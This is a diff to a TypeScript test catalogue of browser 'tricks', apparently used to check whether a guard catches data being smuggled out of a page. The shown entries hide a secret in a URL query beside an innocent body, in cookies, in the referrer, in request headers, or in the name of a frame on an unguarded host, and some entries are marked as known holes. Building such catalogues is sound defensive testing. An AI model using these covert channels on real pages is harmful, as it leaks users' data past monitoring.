@@ -1,7 +1,8 @@
 /** Words in an address: everything that makes a browser load something. */
 import type { Kit, Trick } from "../trick";
-import { open } from "./holes";
+import { open, openUnpacked } from "./holes";
 
+const CARRIED = "Cookies, request headers, the referrer and a frame's name";
 const BY_ITSELF = "Addresses that a browser loads by itself";
 
 export const ADDRESSES: readonly Trick[] = [
@@ -21,6 +22,22 @@ export const ADDRESSES: readonly Trick[] = [
     send: async ({ prompt, text }) =>
       (await fetch(`${prompt}?q=${encodeURIComponent(text)}`, { method: "POST", body: "{}" }))
         .status,
+  },
+  {
+    name: "post-query-beside-text",
+    about: "Posts an innocent message, with the real one in the query of the address.",
+    send: async ({ prompt, text, post, body }) =>
+      (await fetch(`${prompt}?q=${encodeURIComponent(text)}`, post(body("Good morning")))).status,
+  },
+  {
+    name: "xhr-query-beside-text",
+    about:
+      "Sends an innocent message by XMLHttpRequest, with the real one in the query of the address.",
+    send({ prompt, text, body }) {
+      const xhr = new XMLHttpRequest();
+      xhr.open("POST", `${prompt}?q=${encodeURIComponent(text)}`);
+      xhr.send(body("Good morning"));
+    },
   },
   {
     name: "deep-link",
@@ -157,13 +174,14 @@ export const ADDRESSES: readonly Trick[] = [
       "reporting-endpoints": 'words="/reports"',
     },
     holes: open("Reports that a browser sends by itself"),
-    mostMs: 90_000,
-    settleMs: 75_000,
+    mostMs: 8_000,
+    settleMs: 4_000,
     send: (kit) => void (new Image().src = address(kit)),
   },
   {
     name: "request-header",
     about: "Puts the message into a header of an innocent prompt.",
+    holes: open(CARRIED),
     send: async ({ prompt, post, body, secret }) =>
       (
         await fetch(prompt, {
@@ -175,7 +193,7 @@ export const ADDRESSES: readonly Trick[] = [
   {
     name: "cookie",
     about: "Puts the message into a cookie, which every request takes along.",
-    holes: open("Cookies, the referrer and a frame's name"),
+    holes: open(CARRIED),
     async send({ secret, file }) {
       document.cookie = `words=${secret}; path=/hostile/`;
       await fetch(file("blank.html"));
@@ -186,7 +204,7 @@ export const ADDRESSES: readonly Trick[] = [
     name: "referrer",
     about:
       "Puts the message into the page's own address, which every request names as its referrer.",
-    holes: open("Cookies, the referrer and a frame's name"),
+    holes: open(CARRIED),
     async send({ secret, file }) {
       history.replaceState(null, "", `${location.pathname}${location.search}&words=${secret}`);
       await fetch(file("blank.html"), { referrerPolicy: "unsafe-url" });
@@ -195,7 +213,7 @@ export const ADDRESSES: readonly Trick[] = [
   {
     name: "window-name",
     about: "Opens a frame of a host that nobody guards, with the message as its name.",
-    holes: open("Cookies, the referrer and a frame's name"),
+    holes: open(CARRIED),
     send: ({ frame, elsewhere, text }) =>
       frame((element) => {
         element.name = text;
@@ -279,6 +297,7 @@ export const ADDRESSES: readonly Trick[] = [
   {
     name: "form-changed",
     about: "Changes a form's field and action between the submit event and its sending.",
+    holes: openUnpacked("dedicated workers, escaped pages"),
     send({ prompt, text }) {
       const form = formWith("/nowhere", "Good morning", {});
       form.addEventListener("formdata", ({ formData }) => {
